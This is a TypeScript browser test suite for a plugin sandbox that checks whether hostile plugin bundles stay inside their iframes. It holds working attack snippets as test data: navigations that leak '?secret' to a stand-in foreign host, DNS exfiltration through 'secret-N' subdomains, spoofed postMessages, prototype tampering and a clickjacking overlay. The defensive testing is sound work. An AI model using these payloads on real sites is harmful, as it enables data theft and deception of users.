import type { Page } from 'playwright-core';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { hasBrowser, holds } from '../console/console-bench.ts';
import { eventually } from '../helpers/within.ts';
import { asksOf, beside, hostileLater, netLogOf, type Rig, runIn, startRig, withControl } from './attack-rig.ts';
import { extension, rootOf, stateOf, stillRuns } from './bundle-folder.ts';

interface Breach {
  code: string;
  /** What the foreign place hears without a sandbox. */
  heard?: string;
  /** An expression that holds in the page around the frame then: `said` is what was said to it, `grown` by how much the history is longer. */
  shows?: string;
}

const frame = (fields: string) => `document.body.append(make('iframe', ${fields})); await wait(300)`;
const click = (fields: string) => `const a = make('a', ${fields}); document.body.append(a); a.click()`;
const html = (text: string) => `URL.createObjectURL(new Blob(['${text}'], { type: 'text/html' }))`;

/** Rows of attacks each of which ends the frame for good; every attack is a bundle of its own. */
const rows: Record<string, Record<string, Breach>> = {
  'self-navigation, meta refresh, `data:` and `blob:` documents: the frame may show one document': {
    'sets-location': { code: `location.href = foreign + 'navigated?secret'`, heard: '/navigated?secret' },
    'replaces-location': { code: `location.replace(foreign + 'replaced?secret')`, heard: '/replaced?secret' },
    refreshes: {
      code: `document.head.append(make('meta', { httpEquiv: 'refresh', content: '0;url=' + foreign + 'refreshed' }))`,
      heard: '/refreshed',
    },
    'follows-a-link': { code: click(`{ href: foreign + 'followed' }`), heard: '/followed' },
    'opens-data': { code: `location.href = 'data:text/html,<img src=' + foreign + 'data.png>'`, heard: '/data.png' },
    'opens-a-blob': { code: `location.href = ${html(`<img src=' + foreign + 'blob.png>`)}`, heard: '/blob.png' },
    'opens-the-api': { code: `location.href = endpoint + '/api/health'`, shows: 'loads > 1' },
    'opens-the-console': { code: `location.href = endpoint + '/'`, shows: 'loads > 1' },
    'opens-itself': { code: `location.reload()`, shows: 'loads > 1' },
    'opens-a-neighbour': {
      code: `location.href = endpoint + '/plugin-sandbox.html?plugin=neighbour'`,
      shows: 'loads > 1',
    },
  },
  'nested frames: `frame-src`': {
    'nests-foreign': { code: frame(`{ src: foreign + 'nested' }`), heard: '/nested' },
    'nests-the-api': { code: frame(`{ src: endpoint + '/api/health' }`), shows: `frames[0].length === 1` },
    'nests-itself': { code: frame(`{ src: location.href }`), shows: `frames[0].length === 1` },
  },
  'a second word to the window of the console: it listens once': {
    'says-hello-again': { code: `parent.postMessage({ t: 'hello', v: 1 }, '*')`, shows: `said[0].t === 'hello'` },
    'says-anything': { code: `top.postMessage({ t: 'init' }, '*')`, shows: `said[0].t === 'init'` },
  },
  'the history that it shares with the console': {
    'sets-fragments': { code: `location.hash = '#a'; await wait(100)`, shows: 'grown === 1' },
  },
  'a flood of messages: 300 in a second': {
    'floods-errors': {
      code: `for (let i = 0; i < 100000; i++) dispatchEvent(new ErrorEvent('error', { message: 'flood ' + i }))`,
      shows: 'said.length > 10000',
    },
    'floods-sizes': {
      code: `const all = () => { for (let i = 0; i < 50; i++) setTimeout(() => { dispatchEvent(new PromiseRejectionEvent('unhandledrejection', { promise: Promise.resolve(), reason: Math.random() })); }); setTimeout(all, 10); }; all()`,
      shows: 'said.length > 1000',
    },
  },
  'tampering with prototypes before it misbehaves: the bootstrap keeps what it needs': {
    'tampers-and-navigates': {
      code: `MessagePort.prototype.postMessage = () => {}; EventTarget.prototype.addEventListener = () => {}; Function.prototype.call = () => {}; Function.prototype.apply = () => {}; Array.prototype.push = () => 0; String.prototype.slice = () => ''; Object.defineProperty(MessageEvent.prototype, 'data', { get: () => ({}) }); try { document.open(); document.write('x'); document.close(); } catch {} location.href = foreign + 'tampered'`,
      heard: '/tampered',
    },
    'tampers-and-speaks': {
      code: `MessagePort.prototype.postMessage = () => {}; window.postMessage = () => {}; parent.postMessage('x', '*')`,
      shows: `said[0] === 'x'`,
    },
  },
};

/** A page that has no rules for its first frame, and what it sees. */
const witness = `
  const frame = document.querySelector('iframe');
  window.witness = { said: [], loads: 1, history: history.length };
  addEventListener('message', ({ data, source }) => {
    if (source !== frame.contentWindow) return;
    witness.said.push(data);
    if (data?.theme) document.documentElement.lang = data.theme.lang;
    if (data?.height) frame.style.height = data.height + 'px';
  });
  frame.addEventListener('load', () => { witness.loads++; });`;
/** What the bootstrap does with errors and heights, without its rules. */
const naiveFrame = `
  addEventListener('error', ({ message }) => parent.postMessage(message, '*'));
  addEventListener('unhandledrejection', ({ reason }) => parent.postMessage(String(reason), '*'));`;

/** A name carries what a bundle knows to whoever answers for its domain. */
const burst = `for (let i = 0; i < 200; i++) document.body.append(make('iframe', { src: foreign.replace('//', '//secret-' + i + '.') }))`;

const test = suite<Rig>('A bundle stays in its frame');

test.before(async (rig) => {
  const made = await startRig((bundles, { confined }) => {
    for (const row of Object.values(rows))
      for (const [name, { code }] of Object.entries(row)) bundles.add(name, hostileLater(confined, code));
    bundles.add('looks-up', hostileLater(confined, burst));
    bundles.add('nests-a-document', nesting);
    bundles.add('speaks-to-siblings', spoofing);
    bundles.add('covers', covering);
    bundles.add('grows', growing);
    bundles.add('loops-its-height', looping);
  });
  Object.assign(rig, made);
});
test.after((rig) => rig.close());

for (const [row, breaches] of Object.entries(rows))
  test(row, async (rig) => {
    const { foreign } = rig;
    const attackers = Object.keys(breaches);
    await beside(rig, attackers, async (page) => {
      await page.evaluate(`location.hash = '#/settings/plugins'`);
      for (const name of attackers) {
        await stateOf(page, name, 'quarantined').waitFor({ timeout: 40_000 });
        assert.is(await page.locator(`iframe[title="${name}: x"]`).count(), 0, name);
      }
      await stillRuns(page, 'neighbour');
      assert.match(page.url(), /#\/settings\/plugins$/);
    });
    for (const [name, { code, heard, shows }] of Object.entries(breaches)) {
      assert.ok(heard ?? shows, `${name} has a control`);
      await withControl(rig, async (page) => {
        await page.evaluate(witness);
        await runIn(page, rig, { code: `${naiveFrame} ${code}` });
        if (heard) await eventually(10_000, () => foreign.control.heard.includes(heard), `${heard} without a sandbox`);
        const seen = '{ said, loads } = witness, grown = history.length - witness.history';
        if (shows) await holds(page, `(() => { const ${seen}; return ${shows}; })()`);
      });
    }
    assert.equal(asksOf(foreign.confined), []);
  });

/** The module, run in a document inside of the frame, would say so to the frame. */
const nesting = `if (location.href === 'about:srcdoc') parent.postMessage('the module runs nested', '*');
${extension(`
  const said = [];
  addEventListener('message', ({ data }) => said.push(data));
  const nested = document.createElement('iframe');
  nested.srcdoc = '<script type="module" src="' + context.endpoint + '/plugins/nests-a-document/.sandbox/main.js"></' + 'script><p>nested</p>';
  nested.onload = () => setTimeout(() => { element.textContent = 'heard ' + JSON.stringify(said.filter((one) => typeof one === 'string')); }, 1000);
  document.body.append(nested);`)}`;

test('a nested `srcdoc` document with the entry: the module refuses to run', async (rig) => {
  await beside(rig, ['nests-a-document'], async (page) => {
    const root = rootOf(page, 'nests-a-document').filter({ hasText: 'heard' });
    await root.waitFor();
    assert.is(await root.innerText(), 'heard []');
  });
  await withControl(rig, async (page) => {
    const code = `return await new Promise((ok) => {
      addEventListener('message', ({ data }) => ok(data));
      document.body.append(make('iframe', { srcdoc: '<script type="module" src="' + endpoint + '/plugins/nests-a-document/main.js"></' + 'script>' }));
    })`;
    assert.is(await runIn(page, rig, { code }), 'done: the module runs nested');
  });
});

const spoofs = `
  setInterval(() => {
    for (let at = 0; at < parent.length; at++) {
      if (parent[at] === self) continue;
      const { port1, port2 } = new MessageChannel();
      const theme = { vars: { '--fg': 'rgb(1, 2, 3)' }, scheme: 'dark', lang: 'xx', dir: 'rtl' };
      const init = { t: 'init', mode: 'mount', entry: location.href, css: [], extensionId: 'x', context: {}, composer: true, theme };
      for (const message of [init, { t: 'theme', theme }, { t: 'dispose' }]) parent[at].postMessage(message, '*', message === init ? [port2] : []);
      port1.onmessage = ({ data }) => { (globalThis.element ?? document.body).textContent = 'it obeys: ' + JSON.stringify(data); };
    }
  }, 20);`;
const spoofing = extension(`globalThis.element = element; element.textContent = 'spoofs'; ${spoofs}`);
/** A frame that takes the first word for the console's, whoever says it. */
const naiveSibling = `addEventListener('message', ({ data, ports }) => {
  if (data.t === 'init') ports[0].postMessage(data.theme.lang);
});`;

test('messages to siblings: only the first word of the console itself counts', async (rig) => {
  await beside(rig, ['speaks-to-siblings'], async (page) => {
    await rootOf(page, 'speaks-to-siblings').filter({ hasText: 'spoofs' }).waitFor();
    await stillRuns(page, 'neighbour');
    await page.reload();
    await rootOf(page, 'speaks-to-siblings').filter({ hasText: 'spoofs' }).waitFor();
    await stillRuns(page, 'neighbour');
    const html = page.frameLocator('iframe[title="neighbour: x"]').locator('html');
    assert.is(await html.getAttribute('lang'), 'en', 'its theme is the one of the console');
    assert.is(await rootOf(page, 'speaks-to-siblings').innerText(), 'spoofs');
  });
  await withControl(rig, async (page) => {
    const [, , sibling] = page.frames();
    await sibling?.evaluate(naiveSibling);
    await runIn(page, rig, { code: spoofs });
    await page.frameLocator('iframe').first().locator('body', { hasText: 'it obeys: "xx"' }).waitFor();
  });
});

const cover = `
  element.innerHTML = '<div style="position:fixed;inset:-500px;width:9000px;height:9000px;z-index:2147483647;background:red">Approve</div><p style="height:60px">x</p>';
  document.documentElement.style.cssText = 'position:fixed;inset:0;transform:scale(50);overflow:visible';`;
const covering = extension(cover);
/** Points of the page outside of the box where something of the bundle would get the click. */
const hits = (box: string, own: string) => `(() => {
  const box = document.querySelector('${box}').getBoundingClientRect();
  const inside = (x, y) => x >= box.left && x <= box.right && y >= box.top && y <= box.bottom;
  const hits = [];
  for (let x = 2; x < innerWidth; x += 12) for (let y = 2; y < innerHeight; y += 12)
    if (!inside(x, y) && document.elementFromPoint(x, y)?.matches('${own}')) hits.push([x, y]);
  return hits.length;
})()`;

test('look-alikes and overlays: a frame stays in a box that bears the name of its plugin', async (rig) => {
  await beside(rig, ['covers'], async (page) => {
    const frame = page.locator('iframe[title="covers: x"]');
    const box = page.locator('.plugin-box', { has: frame });
    await rootOf(page, 'covers').filter({ hasText: 'Approve' }).waitFor();
    await box.locator('.plugin-name', { hasText: 'covers' }).waitFor();
    const own = 'iframe[title="covers: x"]';
    assert.is(await page.evaluate(hits(`.plugin-box:has(${own})`, own)), 0);
    const label = `(() => {
      const name = document.querySelector('.plugin-box:has(iframe[title="covers: x"]) .plugin-name').getBoundingClientRect();
      return document.elementFromPoint(name.left + 4, name.top + name.height / 2).className;
    })()`;
    assert.is(await page.evaluate(label), 'plugin-name');
  });
  await withControl(rig, async (page) => {
    await page.evaluate(`document.body.insertAdjacentHTML('beforeend', '<section>a box</section>')`);
    await runIn(page, rig, { code: `const element = document.querySelector('section'); ${cover}`, whole: true });
    assert.ok(Number(await page.evaluate(hits('section p', 'section div'))) > 100, 'in the page itself it covers all');
  });
});

const grow = `element.innerHTML = '<div style="height:90000px">tall</div>';`;
const loop = `element.innerHTML = '<div></div>'; let high = 10; setInterval(() => { high += 10; element.firstChild.style.height = high + 'px'; }, 10);`;
const growing = extension(grow);
const looping = extension(loop);
/** What the bootstrap says of heights, and a page that does as it says. */
const naiveHeight = `const element = document.body; new ResizeObserver(() => parent.postMessage({ height: element.scrollHeight }, '*')).observe(element);`;
const heightOf = async (page: Page, frame: string) => (await page.locator(frame).first().boundingBox())?.height ?? 0;

test('a giant height: clamped to 4,000 px', async (rig) => {
  await beside(rig, ['grows'], (page) =>
    eventually(20_000, async () => (await heightOf(page, 'iframe[title="grows: x"]')) === 4_000, 'the height'),
  );
  await withControl(rig, async (page) => {
    await page.evaluate(witness);
    await runIn(page, rig, { code: `${naiveHeight} ${grow}` });
    await eventually(20_000, async () => (await heightOf(page, 'iframe')) >= 90_000, 'the height without a clamp');
  });
});

test('a resize loop: the height freezes after twenty changes in two seconds', async (rig) => {
  await beside(rig, ['loops-its-height'], async (page) => {
    const inside = async () =>
      Number.parseInt(
        (await rootOf(page, 'loops-its-height').locator('div').getAttribute('style'))?.replace(/\D/g, '') ?? '0',
        10,
      );
    await eventually(30_000, async () => (await inside()) > 4_500, 'the loop');
    const height = await heightOf(page, 'iframe[title="loops-its-height: x"]');
    assert.ok(height < 4_000, `it stands at ${height} px`);
    const later = await inside();
    await eventually(10_000, async () => (await inside()) > later + 500, 'more of the loop');
    assert.is(await heightOf(page, 'iframe[title="loops-its-height: x"]'), height);
    await stillRuns(page, 'neighbour');
  });
  await withControl(rig, async (page) => {
    await page.evaluate(witness);
    await runIn(page, rig, { code: `${naiveHeight} ${loop}` });
    await eventually(20_000, async () => (await heightOf(page, 'iframe')) > 4_500, 'a height that never freezes');
  });
});

test('name look-ups through blocked navigations: the frame goes, but too late for a burst; this can not be stopped', (rig) =>
  beside(rig, ['looks-up'], async (page) => {
    await page.evaluate(`location.hash = '#/settings/plugins'`);
    await stateOf(page, 'looks-up', 'quarantined').waitFor({ timeout: 40_000 });
    assert.is(await page.locator('iframe[title="looks-up: x"]').count(), 0);
    await stillRuns(page, 'neighbour');
  }));

test('and the log of the browser has no request to the foreign host: navigations that are blocked only connect', async (rig) => {
  const { confined, control, all } = await netLogOf(rig);
  const asks = (lines: string[]) => lines.filter((line) => /"url":"/.test(line) && !/"is_preconnect":true/.test(line));
  assert.ok(asks(control).length > 0);
  assert.equal(asks(confined), []);
  assert.equal(asksOf(rig.foreign.confined), []);
  const names = new Set(all.match(/secret-\d+\.confined/g));
  console.log(
    `FIGURE names that a hostile bundle made the browser look up or connect to before it was stopped: ${names.size} of 200`,
  );
});

if (hasBrowser()) test.run();
